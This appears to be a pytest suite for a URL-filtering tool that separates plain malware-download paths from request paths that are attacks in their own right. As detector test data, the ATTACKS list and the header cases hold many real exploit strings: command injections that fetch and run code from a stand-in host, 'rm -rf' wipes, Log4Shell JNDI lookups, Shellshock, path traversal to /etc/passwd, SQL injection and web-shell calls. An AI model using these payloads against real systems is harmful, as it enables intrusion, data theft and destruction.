"""Which requests are attacks of their own, and which are only downloads."""

from __future__ import annotations

import csv
from collections import Counter
from pathlib import Path

import pytest

from urltrap.egress.attack import attack_shape, other_service
from urltrap.model.url import UrlError, parse_url

SHARED = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "urls.csv"

DOWNLOADS = """
/
/bins.sh
/a/b/mips
/x?arch=mips&id=3
/index.php?f=x86
/Mozi.m
/bin.sh
/bins/mirai.arm7
/cgi-bin/x86_64
/cgi-bin/update.sh
/.../x
/..;
/a/../b.sh
/shell
/shell.sh
/cmd.exe
/wget.sh
/x;v=2
/payload.php?id=42&cmd=login_submit
/webscr?cmd=_xclick
/cgi-bin/webscr.cgi?cmd=_login-run
/get.php?c=1&id=7
/download.php?file=bot.mips
/a.jsp?c=x86
/d?wget=1&curl=2&sh=3
/x?a=1&id=2&cat=5&ls=3
/x?y=1&id
/%E3%81%82/x.bin
/ldr.sh?s=1;t=2
/t.sh?redir=http://198.51.100.1/x.sh
/union/select.sh
/etc/passwd.sh
/think/app.sh
/a.php?q=sleeping+beauty
/setup.cgi
/x?email=a@example.org&name=Tom+or+Anna
/search?q=rm+and+sh
/~user/$file
/curl+wget.tar.gz
/chmod_install.sh
/a(1).exe
/env.txt
""".strip().splitlines()

ATTACKS = """
/x?cmd=;wget+http://198.51.100.1/a
/x?ip=127.0.0.1;id
/x?ip=127.0.0.1%3Bcat%20/etc/passwd
/x?ip=127.0.0.1%253Bcat%2520/tmp/x
/x?ip=1|sh
/x?ip=1||ping+-c+1+198.51.100.1
/x?a=1%26%20wget%20http://198.51.100.1/b
/x?a=1&&curl+-O+http://198.51.100.1/b
/x?host=$(wget+http://198.51.100.1/a)
/x?host=`wget+http://198.51.100.1/a`
/x?host=%60id%60
/x;wget${IFS}http://198.51.100.1/a
/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.1/jaws;sh+/tmp/jaws
/shell?cd+/tmp
/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*&curpath=/&currentsetting.htm=1
/GponForm/diag_Form?images/
/HNAP1/
/board.cgi?cmd=cd+/tmp
/login.cgi?cli=aa%20aa%27;wget%20http://198.51.100.1/d%20-O%20-%3E%20/tmp/k;sh%20/tmp/k%27$
/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=
/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)
/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh
/cgi-bin/.%%32%65/.%%32%65/bin/sh
/language/Swedish${IFS}&&cd${IFS}/tmp
/../../../../etc/passwd
/..%2f..%2f..%2f..%2fetc%2fpasswd
/index.php?page=../../etc/passwd
/index.php?page=/etc/passwd
/index.php?page=..%5c..%5cwindows%5cwin.ini
/a?x=<?php+system($_GET[1]);?>
/index.php?x=php://input
/a?x=${jndi:ldap://198.51.100.1/a}
/$%7Bjndi:ldap://198.51.100.1/a%7D
/a?x=${${lower:j}ndi:ldap://198.51.100.1/a}
/a?x=%24%7b%24%7b%3a%3a-j%7dndi:ldap://198.51.100.1/a%7d
/a?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x
/x.action?redirect:%24%7B%23context%5B%22xwork%22%5D%7D
/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/
/a?id=1+union+select+1,2,3
/a?id=1/**/UNION/**/ALL/**/SELECT/**/1
/a?id=1'+or+'1'='1
/a?id=1;waitfor+delay+'0:0:5'
/a?id=sleep(5)
/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec
/index.php?s=/Index/%5Cthink%5Capp/invokefunction
/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
/wp-content/uploads/x.php?cmd=id
/x.jsp?cmd=whoami
/x.php?c=id
/x.php?c=cat+/etc/issue
/up/x.php?0=system('id')
/x.aspx?exec=dir
/images/c99.php?act=ls
/boaform/admin/formLogin?username=admin&psd=admin
/.env
/.git/config
/autodiscover/autodiscover.json?@zdi/Powershell
/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
/a?x=() { :; }; /bin/id
""".strip().splitlines()


@pytest.mark.parametrize("path", DOWNLOADS)
def test_a_download_passes(path: str) -> None:
    assert attack_shape(path) is None


@pytest.mark.parametrize("path", ATTACKS)
def test_an_attack_is_recognised(path: str) -> None:
    assert attack_shape(path)


@pytest.mark.parametrize("path", ATTACKS)
def test_an_attack_is_recognised_in_its_canonical_form_too(path: str) -> None:
    assert attack_shape(parse_url("http://198.51.100.9" + path).path)


@pytest.mark.parametrize(
    "value",
    [
        b"() { :; }; /bin/bash -c id",
        b"${jndi:ldap://198.51.100.1/x}",
        b"%{(#a=@java.lang.Runtime@x)}",
        b"$(id)",
    ],
)
def test_an_exploit_in_a_header_is_recognised(value: bytes) -> None:
    assert attack_shape("/cgi-bin/status", headers=[(b"User-Agent", value)])


@pytest.mark.parametrize(
    "value",
    [b"Wget/1.21.3", b"curl/7.88.1", b"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101", b"\xff\xfe", b""],
)
def test_an_ordinary_user_agent_is_no_attack(value: bytes) -> None:
    assert attack_shape("/bins.sh", headers=[(b"User-Agent", value)]) is None


@pytest.mark.parametrize(
    ("piece", "attack"),
    [("../", True), ("%25", False), ("${", False), ("() {", False), (";", False), ("' or ", False), ("$(", True),
     ("a=", False), ("<", False), ("union ", False), ("a`id", True), ("=wget -", True), ("%{", False)],
)  # fmt: skip
def test_sixty_kilobytes_of_half_an_exploit_are_judged_too(piece: str, attack: bool) -> None:
    # A rule that backtracked badly would run into the suite's time limit here.
    assert bool(attack_shape("/x?" + piece * (60_000 // len(piece)))) is attack


@pytest.mark.parametrize(
    ("scheme", "port"),
    [
        ("http", 80),
        ("http", 81),
        ("https", 443),
        ("http", 8080),
        ("ftp", 21),
        ("ftp", 2121),
        ("tftp", 69),
        ("tftp", 6969),
    ],
)
def test_a_port_of_the_own_kind_of_service_passes(scheme: str, port: int) -> None:
    assert other_service(scheme, port) is None


@pytest.mark.parametrize(
    ("scheme", "port"),
    [
        ("http", 25),
        ("http", 22),
        ("https", 993),
        ("http", 21),
        ("ftp", 25),
        ("tftp", 53),
        ("tftp", 123),
        ("tftp", 11211),
    ],
)
def test_a_service_of_another_kind_is_not_disturbed(scheme: str, port: int) -> None:
    assert other_service(scheme, port)


@pytest.mark.shared_data
@pytest.mark.skipif(not SHARED.exists(), reason=f"{SHARED} is not there")
def test_hardly_any_real_payload_url_is_withheld() -> None:
    total: Counter[str] = Counter()
    withheld: Counter[str] = Counter()
    with SHARED.open(encoding="utf-8", newline="") as file:
        for row in csv.DictReader(file):
            kind = row["threat"] or row["label"]
            try:
                url = parse_url(row["url"])
            except UrlError:
                continue
            total[kind] += 1
            withheld[kind] += bool(attack_shape(url.path) or other_service(url.scheme, url.port))
    print({kind: f"{withheld[kind]}/{count}" for kind, count in total.items()})
    assert total["malware_download"] > 1000
    assert withheld["malware_download"] / total["malware_download"] < 0.005
    assert sum(withheld.values()) / sum(total.values()) < 0.005
